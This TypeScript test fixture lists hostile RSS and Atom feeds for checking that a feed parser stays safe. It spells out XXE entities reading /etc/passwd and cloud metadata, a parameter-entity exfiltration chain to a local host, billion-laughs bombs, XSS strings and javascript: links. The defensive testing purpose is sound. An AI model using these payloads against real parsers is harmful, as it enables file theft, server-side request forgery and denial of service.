/** A feed that was made to mislead, to harm or to break its reader, and what must be read of it. */
export interface HostileFeed {
  readonly bytes: Uint8Array;
  /** Titles in the order of the feed, or their number. */
  readonly items: readonly string[] | number;
  /** Codes of what is told beside them, each once. */
  readonly problems: readonly string[];
  /** Links in the order of the items. */
  readonly urls?: readonly (string | null)[];
}

/** What no reading of these may show: the text of an entity, or of a file that one names. */
export const NEVER_SHOWN = /BOOM|root:|localhost|SECRET/;

const LAUGHS = Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join("");
const BOMB = `<!ENTITY l0 "BOOM">${LAUGHS}`;

function rss(inside: string): string {
  return `<rss version="2.0"><channel>${inside}</channel></rss>`;
}

function titled(title: string): string {
  return rss(`<item><title>${title}</title></item>`);
}

function linked(link: string): string {
  return rss(`<item><title>A</title><link>${link}</link></item>`);
}

function feed(
  text: string | Uint8Array,
  items: HostileFeed["items"],
  problems: readonly string[] = [],
  urls?: HostileFeed["urls"],
): HostileFeed {
  const bytes = typeof text === "string" ? Buffer.from(text) : text;
  return urls === undefined ? { bytes, items, problems } : { bytes, items, problems, urls };
}

function latin1(text: string): Uint8Array {
  return Buffer.from(text, "latin1");
}

const ENTITIES = ["xml.doctype", "xml.entity-declaration"];
const UNREADABLE = ["feed.unreadable"];

/** What is declared is never expanded, looked up or fetched. */
const DECLARATIONS: Readonly<Record<string, HostileFeed>> = {
  "a billion laughs": feed(
    `<!DOCTYPE rss [${BOMB}]>${titled("&l9; &amp; more")}`,
    ["&l9; & more"],
    [...ENTITIES, "xml.unknown-entity"],
  ),
  "a billion laughs in an attribute": feed(
    `<!DOCTYPE feed [${BOMB}]><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>A</title><link href="https://a.example/&l9;"/></entry></feed>`,
    ["A"],
    ENTITIES,
    ["https://a.example/&l9;"],
  ),
  "a billion laughs in the default of an attribute": feed(
    `<!DOCTYPE rss [${BOMB}<!ATTLIST item about CDATA "&l9;">]>${titled("A")}`,
    ["A"],
    ENTITIES,
  ),
  "a long entity that is used often": feed(
    `<!DOCTYPE rss [<!ENTITY b "${"BOOM".repeat(10_000)}">]>${titled("&b;".repeat(10_000))}`,
    1,
    [...ENTITIES, "xml.unknown-entity"],
  ),
  "an entity that names itself": feed(
    `<!DOCTYPE rss [<!ENTITY a "&a;">]>${titled("&a;")}`,
    ["&a;"],
    [...ENTITIES, "xml.unknown-entity"],
  ),
  "parameter entities": feed(
    `<!DOCTYPE rss [<!ENTITY % all SYSTEM "file:///etc/passwd"><!ENTITY % set "<!ENTITY &#37; send SYSTEM 'http://127.0.0.1/?%all;'>">%set;%send;]>${titled("A %all; B")}`,
    ["A %all; B"],
    ENTITIES,
  ),
  "an entity of a file, by SYSTEM": feed(
    `<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]>${titled("A &e; B")}`,
    ["A &e; B"],
    [...ENTITIES, "xml.unknown-entity"],
  ),
  "an entity of a page, by PUBLIC": feed(
    `<!DOCTYPE rss [<!ENTITY e PUBLIC "-//A//B" "http://169.254.169.254/latest">]>${titled("A &e; B")}`,
    ["A &e; B"],
    [...ENTITIES, "xml.unknown-entity"],
  ),
  "a document type of another host": feed(
    `<!DOCTYPE rss PUBLIC "-//A//B" "http://127.0.0.1/evil.dtd">${titled("A")}`,
    ["A"],
    ["xml.doctype"],
  ),
  "a document type that never ends": feed(`<!DOCTYPE rss [<!ENTITY a "BOOM" ${titled("A")}`, 0, UNREADABLE),
  "an inclusion of a file": feed(
    rss(
      '<item><title>A</title><description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></description></item>',
    ),
    ["A"],
  ),
  "a style sheet": feed(
    `<?xml version="1.0"?><?xml-stylesheet href="http://127.0.0.1/x.xsl"?>${titled("A")}`,
    ["A"],
  ),
};

/** Sizes and depths that cost a careless reader its stack, its memory or minutes. */
const SIZES: Readonly<Record<string, HostileFeed>> = {
  "20,000 elements inside each other in a description": feed(
    rss(
      `<item><title>A</title><description>${"<b>".repeat(20_000)}x${"</b>".repeat(20_000)}</description></item>`,
    ),
    ["A"],
  ),
  "20,000 elements inside each other in a channel": feed(
    rss(`${"<b>".repeat(20_000)}${"</b>".repeat(20_000)}<item><title>A</title></item>`),
    ["A"],
  ),
  "200,000 elements inside each other without an end": feed(
    rss(`<item><title>A</title></item>${"<b>".repeat(200_000)}`),
    ["A"],
    ["feed.too-deep"],
  ),
  "40 KB of <": feed(
    rss(`<item><title>A</title><description>${"<".repeat(40_000)}</description></item>`),
    ["A"],
    ["xml.stray-bracket"],
  ),
  "40 KB of escaped <": feed(
    rss(`<item><title>A</title><description>${"&lt;".repeat(10_000)}</description></item>`),
    ["A"],
  ),
  "a megabyte of bare &": feed(titled(`A ${"&".repeat(1_000_000)}`), 1, ["xml.bare-ampersand"]),
  "an attribute of a megabyte": feed(
    rss(`<item><title>A</title><link href="${"a".repeat(1_000_000)}">https://a.example/</link></item>`),
    ["A"],
    [],
    ["https://a.example/"],
  ),
  "10,000 attributes": feed(
    rss(`<item ${Array.from({ length: 10_000 }, (_, n) => `a${n}="x"`).join(" ")}><title>A</title></item>`),
    ["A"],
  ),
  "a title of a megabyte": feed(titled("A ".repeat(500_000)), 1),
  "a title of a megabyte without a blank": feed(titled("A".repeat(1_000_000)), 1),
  "a link of a megabyte": feed(linked(`https://a.example/${"a".repeat(1_000_000)}`), ["A"], [], [null]),
  "a name of a megabyte": feed(rss(`<${"a".repeat(1_000_000)}/><item><title>A</title></item>`), ["A"]),
  "more items than a feed has": feed(rss("<item><title>A</title></item>".repeat(6_000)), 5_000, [
    "feed.too-many-items",
  ]),
  "100,000 categories": feed(
    rss(`<item><title>A</title>${"<category>x</category>".repeat(100_000)}</item>`),
    ["A"],
  ),
};

/** Bytes that are not what they are said to be. */
const BYTES: Readonly<Record<string, HostileFeed>> = {
  "zero bytes": feed(
    `<rss version="2.0">\0<channel>\0<item><ti\0tle>A\0B</title></item></channel></rss>`,
    ["AB"],
    ["xml.control-character"],
  ),
  "control characters by number": feed(
    titled("A&#0;&#x1B;&#xFFFF;&#xD800;B"),
    ["AB"],
    ["xml.control-character"],
  ),
  "controls of direction": feed(titled("A \u202Egnp.exe\u202C \u2066B\u2069\u200F"), ["A gnp.exe B"]),
  "half a character": feed(titled("A&#xD83D;B"), ["AB"], ["xml.control-character"]),
  "UTF-8 that is said to be Latin-1": feed(
    `<?xml version="1.0" encoding="ISO-8859-1"?>${titled("Åsa")}`,
    ["Åsa"],
    ["feed.charset"],
  ),
  "Latin-1 that is said to be UTF-8": feed(
    latin1(`<?xml version="1.0" encoding="UTF-8"?>${titled("Åsa")}`),
    ["Åsa"],
    ["feed.charset"],
  ),
  "Latin-1 that is said to be nothing": feed(latin1(titled("Åsa")), ["Åsa"], ["feed.charset"]),
  "both encodings in one feed": feed(
    Buffer.concat([
      Buffer.from('<rss version="2.0"><channel><item><title>Åsa</title></item>'),
      latin1("<item><title>Åke</title></item></channel></rss>"),
    ]),
    ["Åsa", "Åke"],
    ["feed.charset"],
  ),
  "plain bytes that are said to be UTF-16": feed(`<?xml version="1.0" encoding="UTF-16"?>${titled("Åsa")}`, [
    "Åsa",
  ]),
  "UTF-16 without a mark": feed(Buffer.from(titled("Åsa"), "utf16le"), ["Åsa"]),
  "UTF-16 that is said to be UTF-8": feed(
    Buffer.from(`\u{FEFF}<?xml version="1.0" encoding="UTF-8"?>${titled("Åsa")}`, "utf16le"),
    ["Åsa"],
  ),
  "half a character of UTF-16 at the end": feed(
    Buffer.concat([Buffer.from(`\u{FEFF}${titled("Åsa")}`, "utf16le"), Buffer.of(0x41)]),
    ["Åsa"],
    ["feed.charset"],
  ),
  "UTF-7": feed(
    `<?xml version="1.0" encoding="UTF-7"?>${titled("+ADw-script+AD4-")}`,
    ["+ADw-script+AD4-"],
    ["feed.charset"],
  ),
  "overlong UTF-8": feed(
    Buffer.concat([
      Buffer.from('<rss version="2.0"><channel><item><title>A'),
      Buffer.of(0xc0, 0xbc),
      Buffer.from("script</title></item></channel></rss>"),
    ]),
    ["AÀ¼script"],
    ["feed.charset"],
  ),
  "no bytes": feed("", 0, UNREADABLE),
  "a byte order mark alone": feed("\u{FEFF}", 0, UNREADABLE),
  "a declaration alone": feed('<?xml version="1.0"?>', 0, UNREADABLE),
  "a picture": feed(Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), 0, [
    "feed.charset",
    ...UNREADABLE,
  ]),
  "a page of a proxy": feed(
    "<!DOCTYPE html><html><head><title>Sign in</title></head><body><form></form></body></html>",
    0,
    UNREADABLE,
  ),
  JSON: feed('{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1"}]}', 0, UNREADABLE),
};

/** Markup that is broken, or that says another thing than it seems to. */
const MARKUP: Readonly<Record<string, HostileFeed>> = {
  "sections that hold the end of a section": feed(titled("<![CDATA[A]]]]><![CDATA[>B]]>"), ["A]]>B"]),
  "a section that holds an item": feed(titled("<![CDATA[A<item>B</item>]]>"), ["AB"]),
  "a section that is never closed": feed(titled("<![CDATA[A"), ["A"], ["xml.unclosed-cdata"]),
  "the end of a section that was none": feed(titled("A ]]> B"), ["A ]]> B"]),
  "a comment that holds an item": feed(
    rss("<!-- <item><title>B</title></item> --><item><title>A</title></item>"),
    ["A"],
  ),
  "a comment that is never closed": feed(
    rss("<!-- <item><title>A</title></item>"),
    ["A"],
    ["xml.unclosed-comment"],
  ),
  "a script in a title": feed(titled("&lt;script&gt;alert(1)&lt;/script&gt;"), ["<script>alert(1)</script>"]),
  "a script around a title": feed(titled("<![CDATA[<img src=x onerror=alert(1)>A<script>b()</script>]]>"), [
    "A",
  ]),
  "a bare &": feed(
    titled("A & B &copy; C &foo; D"),
    ["A & B © C &foo; D"],
    ["xml.bare-ampersand", "xml.html-entity", "xml.unknown-entity"],
  ),
  "no version": feed(
    "<rss><channel><item><title>A</title></item></channel></rss>",
    ["A"],
    ["feed.no-version"],
  ),
  "a version that does not exist": feed(
    '<rss version="99"><channel><item><title>A</title></item></channel></rss>',
    ["A"],
    ["feed.no-version"],
  ),
  "quotation marks that are missing": feed(
    '<rss version="2.0><channel><item><title>A</title></item></channel></rss>',
    ["A"],
    ["xml.bad-attribute", "feed.no-version"],
  ),
  "elements that are never closed": feed(
    '<rss version="2.0"><channel><item><title>A<item><title>B</channel></rss>',
    ["A", "B"],
    ["xml.unclosed-element"],
  ),
  "ends that close nothing": feed(rss("</a></b><item></c><title>A</title></item>"), ["A"], ["xml.stray-end"]),
  "an end in the middle": feed(
    "<rss version='2.0'><channel><item><title>A</title></item><item><title>B",
    ["A", "B"],
    ["xml.cut-short"],
  ),
  "two channels": feed(
    '<rss version="2.0"><channel><item><title>A</title></item></channel><channel><item><title>B</title></item></channel></rss>',
    ["A", "B"],
    ["feed.several-channels"],
  ),
  "two feeds behind each other": feed(`${titled("A")}${titled("B")}`, ["A"]),
  "text before the feed": feed(`Warning: mysql_connect() ${titled("A")}`, ["A"], ["xml.text-before"]),
  "prefixes that nobody declares": feed(
    rss("<item><dc:title>A</dc:title><foo:bar>x</foo:bar><dc:date>2026-11-02</dc:date></item>"),
    ["A"],
    ["xml.undeclared-prefix"],
  ),
  "prefixes that mean something else": feed(
    '<rss version="2.0" xmlns:x="http://purl.org/dc/elements/1.1/" xmlns:dc="urn:other"><channel><item><x:title>A</x:title><dc:title>B</dc:title></item></channel></rss>',
    ["A"],
  ),
  "names that programs use themselves": feed(
    rss(
      '<__proto__>x</__proto__><item __proto__="x"><title>A</title><guid>__proto__</guid><constructor>x</constructor><category>toString</category></item><item><title>B</title><guid>constructor</guid></item>',
    ),
    ["A", "B"],
  ),
  "dates that are none": feed(
    rss(
      "<item><title>A</title><pubDate>31 Feb 2026</pubDate></item><item><title>B</title><pubDate>soon</pubDate></item>",
    ),
    ["A", "B"],
    ["item.bad-date"],
  ),
  "a link of Atom without an address": feed(
    '<feed xmlns="http://www.w3.org/2005/Atom"><link/><entry><title>A</title><link rel="alternate"/><link href="https://a.example/"/></entry></feed>',
    ["A"],
    ["feed.link-without-address"],
    ["https://a.example/"],
  ),
  "ids that are blank, missing and the same": feed(
    rss(
      "<item><title>A</title><guid> </guid></item><item><title>B</title></item><item><title>C</title><guid>1</guid></item><item><title>D</title><guid>1</guid></item><item><title>D</title><guid>1</guid></item>",
    ),
    ["A", "B", "C", "D", "D"],
    ["item.duplicate-id"],
  ),
  "items that say nothing": feed(
    rss("<item/><item><title> </title></item><item><title>A</title></item>"),
    ["A"],
    ["item.empty"],
  ),
};

const ADDRESSES = {
  script: "javascript:alert(1)",
  "script in disguise": " JaVa&#10;ScRiPt&#9;:alert(1)",
  data: "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
  vbscript: "vbscript:msgbox(1)",
  file: "file:///etc/passwd",
  blob: "blob:https://a.example/1",
  "no address": "https://",
};

/** Links that lead where no reader should go. */
const LINKS: Readonly<Record<string, HostileFeed>> = {
  ...Object.fromEntries(
    Object.entries(ADDRESSES).map(([name, address]) => [
      `a link of ${name}`,
      feed(linked(address), ["A"], [], [null]),
    ]),
  ),
  "an id that is a script": feed(
    rss('<item><title>A</title><guid isPermaLink="true">javascript:alert(1)</guid></item>'),
    ["A"],
    [],
    [null],
  ),
  "a base that is a script": feed(
    '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(1)//"><entry><title>A</title><link href="x"/></entry></feed>',
    ["A"],
    [],
    [null],
  ),
  "a link with a password": feed(
    linked("https://user:SECRET@a.example/1"),
    ["A"],
    [],
    ["https://a.example/1"],
  ),
  "a link without a scheme": feed(
    '<rss version="2.0"><channel><link>https://a.example/</link><item><title>A</title><link>//b.example/1</link></item></channel></rss>',
    ["A"],
    [],
    ["https://b.example/1"],
  ),
  "a link of nothing but a fragment": feed(
    '<rss version="2.0"><channel><link>https://a.example/news</link><item><title>A</title><link>#one</link></item></channel></rss>',
    ["A"],
    [],
    ["https://a.example/news#one"],
  ),
  "a link that is relative to nothing": feed(linked("#one"), ["A"], [], [null]),
  "a script before the link": feed(
    rss("<item><title>A</title><link>javascript:alert(1)</link><link>https://a.example/1</link></item>"),
    ["A"],
    [],
    ["https://a.example/1"],
  ),
};

/** Every family of hostile feeds, by what each is made of. */
export const HOSTILE_FEEDS: Readonly<Record<string, HostileFeed>> = {
  ...DECLARATIONS,
  ...SIZES,
  ...BYTES,
  ...MARKUP,
  ...LINKS,
};
